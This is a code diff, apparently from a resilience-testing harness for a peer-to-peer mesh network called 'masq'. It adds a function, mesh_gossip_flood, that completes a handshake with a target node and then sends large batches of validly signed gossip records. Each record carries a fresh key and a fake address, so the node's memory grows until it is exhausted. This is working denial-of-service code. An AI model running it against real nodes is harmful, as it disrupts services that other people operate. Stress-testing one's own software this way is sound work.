@@ -717,7 +717,7 @@ def garbage(target, seconds, max_count=5_000):
                     counters["closed_" + name] += 1
                     break
         except socket.timeout:
-            counters["NOT_closed_within_1s_" + name] += 1
+            counters["open_after_1s_" + name] += 1
         except OSError:
             counters["closed_" + name] += 1
         finally:
@@ -1253,4 +1253,76 @@ def mesh_handshaked_garbage(target, seconds, max_count=300):
         finally:
             peer.sock.close()
     counters["attempts"] = i
+    return dict(counters)
+
+
+def mesh_gossip_flood(target, seconds, per_frame=80, max_records=1_000_000):
+    """Complete the handshake, then gossip records that are all valid:
+    fresh Ed25519 keys, well signed, each naming an address of its own. A
+    node that keeps every record it hears grows with the attacker's signing
+    rate times --record-ttl-ms."""
+    import base64
+    from cryptography.hazmat.primitives import serialization
+    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
+
+    def raw(key):
+        return key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
+
+    def b64(data):
+        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
+
+    MeshPeer = mesh_peer_class()
+    counters = collections.Counter()
+    deadline = time.monotonic() + seconds
+    agreement = b64(raw(X25519PrivateKey.generate()))
+    sent = 0
+    peer = None
+    i = 0
+    while time.monotonic() < deadline and sent < max_records:
+        if peer is None:
+            i += 1
+            try:
+                peer = MeshPeer(target["host"], target["port"], source_of(target, i) or HOST, client=False, timeout=2)
+                peer.handshake()
+                counters["handshakes"] += 1
+                stop = threading.Event()
+
+                def drain(p=peer, stop=stop):
+                    # Read what the node sends (gossip, pings) so its queue toward us stays empty.
+                    try:
+                        p.sock.settimeout(None)
+                        while not stop.is_set():
+                            frames, _ = p.read_message()
+                            if any(f[:1] == b"\x06" for f in frames):
+                                counters["bye"] += 1
+                    except Exception:
+                        pass
+                threading.Thread(target=drain, daemon=True).start()
+            except (OSError, ConnectionError, ValueError):
+                counters["refused"] += 1
+                peer = None
+                time.sleep(0.05)
+                continue
+        batch = []
+        for k in range(per_frame):
+            n = sent + k
+            identity = Ed25519PrivateKey.generate()
+            record = {"network": "masq", "key": b64(raw(identity)), "agreement": agreement,
+                      "host": "10.%d.%d.%d" % (n >> 16 & 255, n >> 8 & 255, n & 255), "port": 7000, "version": int(time.time() * 1000),
+                      "neighbours": [], "rates": {"routingByte": 1, "routingPacket": 1, "exitByte": 1, "exitPacket": 1}, "exit": True}
+            body = json.dumps(record, separators=(",", ":")).encode()
+            batch.append({"r": b64(body), "s": b64(identity.sign(b"masq node record v1" + body))})
+        try:
+            peer.frame(b"\x01" + json.dumps(batch).encode())
+            sent += per_frame
+        except OSError:
+            counters["closed_by_node"] += 1
+            stop.set()
+            peer.sock.close()
+            peer = None
+    if peer:
+        stop.set()
+        peer.sock.close()
+    counters["records_sent"] = sent
     return dict(counters)
